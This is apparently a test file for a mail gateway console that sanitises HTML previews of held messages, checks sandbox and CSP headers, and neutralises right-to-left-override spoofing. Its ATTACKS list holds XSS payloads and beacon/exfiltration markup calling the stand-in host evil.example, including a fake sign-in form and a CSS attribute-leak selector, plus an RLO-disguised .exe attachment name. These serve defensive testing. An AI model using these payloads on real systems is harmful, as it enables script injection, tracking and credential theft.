"""What a held message may do to whoever looks at it: nothing."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.console import preview
from gateway.console.marks import compare, mark
from gateway.policy.outcome import Outcome, Violation, Words
from gateway.reading.reading import Evidence
from tests.console.place import Browser, Place

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='https://evil.example/?who'>x</a>",
    "<iframe src='https://evil.example/'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    "<link rel='stylesheet' href='https://evil.example/x.css'><style>@import 'https://evil.example/x';</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<p style='background-image:url(https://evil.example/x)'>x</p>",
    "<p style='background:u\\72l(https://evil.example/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<div style=\"font-family:'x';src:url(https://evil.example/f)\">x</div>",
    "<form action='https://evil.example/'><input name=secret><button>Sign in</button></form>",
    "<button formaction='javascript:alert(1)'>x</button><input type=image src='https://evil.example/x'>",
    "<video src='https://evil.example/x' poster='https://evil.example/y'></video><audio src=x>",
    "<table background='https://evil.example/x'><td background='https://evil.example/x'>x</table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    "<a ping='https://evil.example/' download target=_top>x</a>",
    "<td colspan=100000000 rowspan=99999999>x</td>",
    "<![CDATA[<script>alert(1)</script>]]><!--><script>alert(1)</script>-->",
    "<img srcset='https://evil.example/x 1x' alt='<script>alert(1)</script>'>",
    "<p dir=rtl lang='\"><script>alert(1)</script>'>x</p>",
]
_ALLOWED = preview.TAGS | {"html", "head", "body"}
_URL = re.compile(
    r"(?:src|href|action|background|poster|ping|srcset|formaction)\s*=|url\(|@import", re.IGNORECASE
)


def tags_of(page: str) -> list[str]:
    return re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9:]*)", page)


def check_harmless(page: str) -> None:
    assert {tag.lower() for tag in tags_of(page)} <= _ALLOWED, page
    for tag in re.findall(r"<[a-z][^>]*>", page, re.IGNORECASE):
        bare = re.sub(r'"[^"]*"', '""', tag)
        assert not _URL.search(bare), tag
        assert not re.search(r"\son[a-z]+\s*=", bare, re.IGNORECASE), tag
        for style in re.findall(r'style="([^"]*)"', tag):
            assert not re.search(r"url|position|@|\\", style, re.IGNORECASE), tag


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_or_calls_home_is_left(attack: str) -> None:
    check_harmless(preview.sanitize(f"<p>Dear Anna</p>{attack}<p>Bye</p>"))


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", "'", '"', "<", ">", "<!--", "-->", "\0", "é"]), max_size=6
    )
)
def test_nor_when_they_are_mixed(parts: list[str]) -> None:
    check_harmless(preview.sanitize("".join(parts)))


def test_what_a_reader_sees_stays() -> None:
    html = (
        "<table width='600' bgcolor='#eee'><tr><td style='color:red;padding:8px'><b>Hello</b> Anna</td>"
        "</tr></table><ul><li>one</li></ul><img src='https://x.example/y.png' alt='Our shop'>"
    )
    page = preview.sanitize(html)
    for kept in ("<b>Hello</b>", "<li>one</li>", 'alt="Our shop"', "color:red", 'bgcolor="#eee"'):
        assert kept in page.replace("color: red", "color:red")


def test_styles_are_kept_by_their_whole_names() -> None:
    page = preview.sanitize("<p style='margin-bottom:4px;margin-top:2px;bottom:0'>x</p>").replace(" ", "")
    assert "margin-bottom:4px" in page
    assert "margin-top:2px" in page
    assert ";bottom" not in page
    assert all(not name.startswith("-") and not name.endswith("-") for name in preview.STYLES)


def test_a_huge_table_is_cut() -> None:
    page = preview.sanitize("<table>" + "<tr><td>x</td></tr>" * 200_000 + "</table>")
    assert len(page) < 2 * preview.LONGEST


async def test_the_frame_is_locked_from_outside_too(here: Place, ada: Browser) -> None:
    raw = b"Subject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + "".join(ATTACKS).encode()
    hold = await here.hold_mail(raw)
    async with ada.http.get(f"/console/holds/{hold}/preview") as answer:
        policy = answer.headers["Content-Security-Policy"]
        page = await answer.text()
    assert "sandbox;" in policy
    assert "default-src 'none'" in policy
    check_harmless(page.split("<body>", 1)[1])
    _, text = await ada.get(f"/console/holds/{hold}")
    assert re.search(r'<iframe src="/console/holds/[^"]+" sandbox title=', text)


def _violation(*words: str) -> Violation:
    said = Words("no", "no")
    evidence = tuple(Evidence(text=w) for w in words)
    return Violation(
        policy="p", rule="r", code="r.c", outcome=Outcome.HOLD, mode="enforce", reason=said, evidence=evidence
    )


@given(st.text(max_size=80), st.lists(st.text(max_size=10), max_size=6))
def test_marking_loses_no_letter(text: str, words: list[str]) -> None:
    pieces = mark(text, [_violation(*words[:3]), _violation(*words[3:])])
    assert "".join(p.text for p in pieces) == text


def test_evidence_is_marked_where_it_stands() -> None:
    pieces = mark("Only today: buy now, today!", [_violation("buy now"), _violation("today!")])
    assert [(p.text, p.number) for p in pieces if p.number] == [("buy now", 1), ("today!", 2)]


def test_a_comparison_shows_what_differs() -> None:
    changes = compare("Dear Anna, buy the blue one", "Dear Luca, buy the red one")
    assert [(c.kind, c.text) for c in changes if c.kind != "same"] == [
        ("gone", "Anna,"), ("added", "Luca,"), ("gone", "blue"), ("added", "red"),
    ]  # fmt: skip


async def test_what_turns_the_writing_round_does_not_reach_who_it_is_from_and_for(
    here: Place, ada: Browser
) -> None:
    """The address behind a name, and the end of a file's name, stand as they are."""
    raw = (
        "Subject: Offer \u202egpj\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
        "--x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        '<p>Sconto: <a href="https://shop.example/">\u202eknab</a></p>\r\n'
        "--x\r\nContent-Disposition: attachment; filename*=utf-8''offer%E2%80%AEfdp.exe\r\n\r\na\r\n--x--\r\n"
    )
    hold = await here.hold_mail(raw.encode(), name="Anna \u202egro.knab@anna")
    message = hold.partition("-")[0]
    for path in (f"/console/holds/{hold}", f"/console/messages/{message}"):
        _, page = await ada.get(path)
        shown = re.findall(r"<h[13]>.*?</h[13]>|<dd>.*?</dd>|<ul class=\"links\">.*?</ul>", page, re.DOTALL)
        assert any("Anna" in one for one in shown)
        turned = [one for one in shown if "\u202e" in one and "Offer" not in one]
        assert turned == [], path
        assert "offer\u202e" not in page
        assert path.startswith("/console/messages") or "offer fdp.exe" in page
        assert "Offer \u202e" not in page.partition("</h1>")[0]
